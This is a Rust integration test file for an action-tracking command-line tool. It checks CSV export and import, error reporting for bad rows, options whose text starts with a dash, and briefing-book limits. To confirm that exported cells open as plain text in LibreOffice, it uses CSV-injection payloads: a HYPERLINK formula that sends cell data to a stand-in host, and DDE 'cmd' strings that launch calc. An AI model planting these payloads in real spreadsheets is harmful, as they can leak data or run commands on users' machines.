//! The edges a careful user tries first: spreadsheet formulas in exported cells, imports with
//! bad rows, free text that starts with a dash, and a book's selection shaped like a list.
//! Checked with tools we did not write where there is one (LibreOffice, pdfinfo).
mod common;
use common::*;
use std::process::Command;

/// Titles a spreadsheet would run as formulas if written as they are (OWASP "CSV injection").
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+1",
    "-2 percent budget cut",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    "Plain title",
];

/// Every cell of the first sheet of a flat ODS file: (has a formula, shown text).
fn fods_cells(path: &std::path::Path) -> Vec<Vec<(bool, String)>> {
    let xml = std::fs::read_to_string(path).unwrap();
    let py = Command::new("python3")
        .args([
            "-c",
            r#"
import sys, json, xml.etree.ElementTree as ET
ns = {'table': 'urn:oasis:names:tc:opendocument:xmlns:table:1.0', 'text': 'urn:oasis:names:tc:opendocument:xmlns:text:1.0'}
root = ET.fromstring(sys.stdin.read())
rows = []
for row in root.iter('{%s}table-row' % ns['table']):
    cells = []
    for c in row.findall('table:table-cell', ns):
        text = '\n'.join(''.join(p.itertext()) for p in c.findall('text:p', ns))
        reps = int(c.get('{%s}number-columns-repeated' % ns['table'], '1'))
        formula = c.get('{%s}formula' % ns['table']) is not None
        cells.extend([[formula, text]] * min(reps, 50))
    rows.append(cells)
print(json.dumps(rows))
"#,
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    py.stdin.as_ref().unwrap().write_all(xml.as_bytes()).unwrap();
    let out = py.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Vec<Vec<(bool, String)>> = serde_json::from_slice(&out.stdout).unwrap();
    v
}

#[test]
fn csv_cells_that_look_like_formulas_open_as_text_in_libreoffice_and_import_back_exactly() {
    let ws = Ws::new();
    for t in HOSTILE {
        ws.ok(&["action", "create", "--title", t, "--body", "=cmd|' /C calc'!A0", "--official", "@chief"]);
    }
    let out = ws.path("actions.csv");
    ws.ok(&["export", "csv", "--out", out.to_str().unwrap()]);

    // LibreOffice, headless, reads the CSV as a spreadsheet and writes it as flat ODS.
    let lo_profile = ws.path("lo-profile");
    let o = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", lo_profile.display()))
        .args(["--headless", "--convert-to", "fods", "--outdir"])
        .arg(ws.dir.path())
        .arg(&out)
        .output()
        .expect("LibreOffice (soffice) runs; `cargo xtask test` installs libreoffice-calc-nogui");
    assert!(o.status.success(), "soffice: {}", String::from_utf8_lossy(&o.stderr));
    let rows = fods_cells(&ws.path("actions.fods"));
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|(_, t)| t == name).unwrap_or_else(|| panic!("no {name} column in {header:?}"));
    let title = col("title");
    let data: Vec<&Vec<(bool, String)>> = rows[1..].iter().filter(|r| r.len() > title && !r[title].1.is_empty()).collect();
    assert_eq!(data.len(), HOSTILE.len(), "{rows:?}");
    for r in &data {
        for (formula, text) in r.iter() {
            assert!(!formula, "LibreOffice read a formula from the CSV: {text:?} in {r:?}");
        }
        // Shown as text: the original, or (for a cell that would start a formula) the original
        // behind the apostrophe that marks it as text.
        let shown = &r[title].1;
        let original = if HOSTILE.contains(&shown.as_str()) { shown.as_str() } else { shown.strip_prefix('\'').unwrap_or(shown) };
        assert!(HOSTILE.contains(&original), "{shown:?} is not one of the titles");
    }

    // Mandate's own import gives back exactly the original text.
    let other = Ws::new();
    let s = other.json(&["import", out.to_str().unwrap()]);
    assert_eq!(s["ok"], true, "{s}");
    let listed = other.json(&["action", "list"]);
    let mut titles: Vec<String> = listed.as_array().unwrap().iter().map(|a| a["title"].as_str().unwrap().to_string()).collect();
    titles.sort();
    let mut want: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(titles, want);
    let first = other.json(&["action", "show", listed[0]["number"].as_str().unwrap()]);
    assert_eq!(first["body"], "=cmd|' /C calc'!A0");
    assert_eq!(first["issuing_official"], "@chief");
}

#[test]
fn an_import_with_problems_exits_5_and_leaves_a_bad_file_out_whole() {
    let ws = Ws::new();
    let good = ws.path("good.csv");
    std::fs::write(&good, "title,kind,suspense\nFix the roof,tasker,2026-12-01\n").unwrap();
    let bad = ws.path("bad.csv");
    // Line 1 is the header; line 3 has a bad date, line 5 (after a cell with a line break) no title.
    std::fs::write(&bad, "title,kind,suspense\nA good row,tasker,2026-12-02\nBad date,tasker,tomorrow\n\"Two\nlines\",tasker,\n,tasker,\n")
        .unwrap();

    let o = ws.run(&["--json", "import", good.to_str().unwrap(), bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(5), "{}", String::from_utf8_lossy(&o.stderr));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(s["ok"], false);
    assert_eq!(s["rejected_files"], serde_json::json!([bad.to_str().unwrap()]));
    let problems: Vec<(u64, String)> = s["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["line"].as_u64().unwrap(), p["column"].as_str().unwrap().to_string()))
        .collect();
    assert_eq!(problems, vec![(3, "suspense".to_string()), (6, "title".to_string())], "{s}");
    let titles: Vec<String> =
        ws.json(&["action", "list"]).as_array().unwrap().iter().map(|a| a["title"].as_str().unwrap().into()).collect();
    assert_eq!(titles, vec!["Fix the roof"], "the good file is kept, nothing of the bad one");

    // The text says where and what, and how to keep the good rows.
    let o = ws.run(&["import", bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(5));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("bad.csv:3: column suspense: `tomorrow` is not a date"), "{err}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("--keep-good-rows"));

    // A file that is not text at all is a problem of its own, named, not a crash.
    let binary = ws.path("scan.pdf");
    std::fs::write(&binary, [0xff, 0xfe, 0x00, 0x9f, b'\n']).unwrap();
    let o = ws.run(&["import", binary.to_str().unwrap(), good.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(5), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("scan.pdf:1: not UTF-8 text"), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).starts_with("Imported 1 file(s)"), "{}", String::from_utf8_lossy(&o.stdout));

    // Asked for, the good rows are kept; the problems still make the exit code 5.
    let o = ws.run(&["--json", "import", "--keep-good-rows", bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(5));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(s["actions_created"], 2, "{s}");
    assert_eq!(s["rejected_files"], serde_json::json!([]));
    assert_eq!(
        ws.json(&["action", "list"]).as_array().unwrap().len(),
        4,
        "the good file twice (rows without a number are new actions) and the two good rows"
    );
}

#[test]
fn free_text_options_take_text_that_starts_with_a_dash() {
    let ws = Ws::new();
    ws.ok(&["office", "add", "--code", "OGC", "--name", "Office of the General Counsel"]);
    let a = ws.json(&[
        "action",
        "create",
        "--title",
        "-2 percent budget cut",
        "--body",
        "--- see annex ---",
        "--official",
        "-Acting- Secretary",
        "--suspense",
        "2026-12-15",
        "--issue",
    ]);
    let n = a["number"].as_str().unwrap().to_string();
    assert_eq!(a["title"], "-2 percent budget cut");
    assert_eq!(a["body"], "--- see annex ---");
    ws.ok(&["assign", &n, "--office", "OGC", "--role", "opr"]);
    ws.ok(&["acknowledge", &n, "--office", "OGC"]);
    ws.ok(&["update", &n, "--percent", "10", "--text", "-- started; -5% on travel"]);
    ws.ok(&["risk", &n, "--description", "-1 FTE", "--category", "operational", "--likelihood", "2", "--impact", "3"]);
    ws.ok(&["action", "edit", &n, "--title", "-3 percent budget cut"]);
    let f = ws.json(&["action", "show", &n]);
    assert_eq!(f["title"], "-3 percent budget cut");
    assert_eq!(f["updates"][0]["text"], "-- started; -5% on travel");
    assert_eq!(f["risks"][0]["description"], "-1 FTE");
    // An unknown flag is still an error (exit 2), not swallowed as text.
    let o = ws.run(&["action", "create", "--title", "x", "--no-such-flag"]);
    assert_eq!(o.status.code(), Some(2));
}

fn pdf_pages(path: &std::path::Path) -> usize {
    let o = Command::new("pdfinfo").arg(path).output().unwrap();
    let info = String::from_utf8_lossy(&o.stdout);
    info.lines().find_map(|l| l.strip_prefix("Pages:")).unwrap().trim().parse().unwrap()
}

#[test]
fn a_book_takes_the_lists_limit_and_sort_or_refuses_what_it_cannot_honour() {
    let ws = Ws::new();
    ws.ok(&["sample", "--actions", "60"]);
    let html = ws.path("book.html");
    let wrote = |extra: &[&str]| -> usize {
        let mut a = vec!["brief", "--out", html.to_str().unwrap(), "--format", "html", "--as-of", "2026-11-24T08:00:00Z"];
        a.extend_from_slice(extra);
        let o = ws.run(&a);
        assert!(o.status.success(), "{extra:?}: {}", String::from_utf8_lossy(&o.stderr));
        let err = String::from_utf8_lossy(&o.stderr);
        let n = err.split(" actions)").next().unwrap().rsplit('(').next().unwrap().trim();
        n.parse().unwrap_or_else(|_| panic!("{err}"))
    };
    let all = wrote(&["--all"]);
    assert_eq!(all, 60);
    assert_eq!(wrote(&["--all", "--limit", "20"]), 20);
    assert_eq!(wrote(&["--all", "--limit", "20", "--offset", "50"]), 10);
    // --sort decides which actions the limit keeps: the first five by title.
    assert_eq!(wrote(&["--all", "--sort", "title", "--limit", "5"]), 5);
    let listed = ws.json(&["action", "list", "--sort", "title", "--limit", "5"]);
    let book = std::fs::read_to_string(&html).unwrap();
    for a in listed.as_array().unwrap() {
        assert!(book.contains(a["number"].as_str().unwrap()), "{} missing from the book", a["number"]);
    }

    // The same for PDF.
    let pdf = ws.path("book.pdf");
    let o = ws.run(&["brief", "--out", pdf.to_str().unwrap(), "--all", "--limit", "3", "--omit", "summary,appendix,dividers"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("3 actions"));
    assert!(pdf_pages(&pdf) >= 3);

    // What a book cannot honour is refused, not ignored.
    ws.ok(&["view", "save", "Open", "--status", "in_progress"]);
    for (args, says) in [
        (vec!["--limit", "5"], "need a selection"),
        (vec!["--view", "Open", "--limit", "5"], "--view"),
        (vec!["--view", "Open", "--office", "OGC"], "--view"),
    ] {
        let mut a = vec!["brief", "--out", html.to_str().unwrap()];
        a.extend(args.iter().copied());
        let o = ws.run(&a);
        assert_eq!(o.status.code(), Some(1), "{args:?}");
        assert!(String::from_utf8_lossy(&o.stderr).contains(says), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
    }
}
